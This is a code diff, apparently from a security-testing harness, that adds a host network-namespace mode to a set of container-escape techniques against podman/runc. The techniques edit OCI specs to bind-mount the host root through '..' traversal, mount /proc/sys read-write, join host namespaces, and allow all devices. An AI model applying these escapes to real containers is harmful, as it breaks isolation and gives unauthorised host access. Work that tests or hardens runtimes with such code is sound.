@@ -110,7 +110,7 @@ def pyc(data, fn):
 
 SELF = ("selfdd", "selfddrun", "selfvol", "selflink", "selfproc")
 DEV = ("devrule", "devlist")
-NS = DEV + ("nsmnt", "nsuts", "nsipc", "nspid", "nsuser", "hook")
+NS = DEV + ("nsnet", "nsmnt", "nsuts", "nsipc", "nspid", "nsuser", "hook")
 def spec_edit(spec):
     if mode == "selfdd":  # the container's own userdata (root's, not movable) climbed out of with '..'
         spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": ud + "/../../../../../../..", "options": ["rbind", "rw"]})
@@ -122,10 +122,12 @@ def spec_edit(spec):
         spec["mounts"].append({"destination": "/mnt/sys", "type": "bind", "source": ud + "/../../../../../../../proc/sys", "options": ["rbind", "rw"]})
     elif mode == "selflink":  # a link the archive itself puts in the userdata directory (podman untars it there)
         spec["mounts"].append({"destination": "/mnt", "type": "bind", "source": ud + "/attack30f-link/.", "options": ["rbind", "rw"]})
-    elif mode in ("nsmnt", "nsuts", "nsipc", "nspid", "nsuser"):
-        kind = {"nsmnt": "mount", "nsuts": "uts", "nsipc": "ipc", "nspid": "pid", "nsuser": "user"}[mode]
-        path = "/proc/self/ns/" + {"mount": "mnt"}.get(kind, kind)
+    elif mode in ("nsmnt", "nsuts", "nsipc", "nspid", "nsuser", "nsnet"):
+        kind = {"nsnet": "network", "nsmnt": "mount", "nsuts": "uts", "nsipc": "ipc", "nspid": "pid", "nsuser": "user"}[mode]
+        path = "/proc/self/ns/" + {"mount": "mnt", "network": "net"}.get(kind, kind)
         spec["linux"]["namespaces"] = [n for n in spec["linux"]["namespaces"] if n["type"] != kind] + [{"type": kind, "path": path}]
+        if mode == "nsnet":  # runc refuses net.* sysctls in the host's network namespace
+            spec["linux"].pop("sysctl", None)
     elif mode == "devrule":  # every device allowed in the devices cgroup (podman run denies all but its list)
         spec["linux"]["resources"]["devices"] = [{"allow": True, "access": "rwm"}]
     elif mode == "hook":
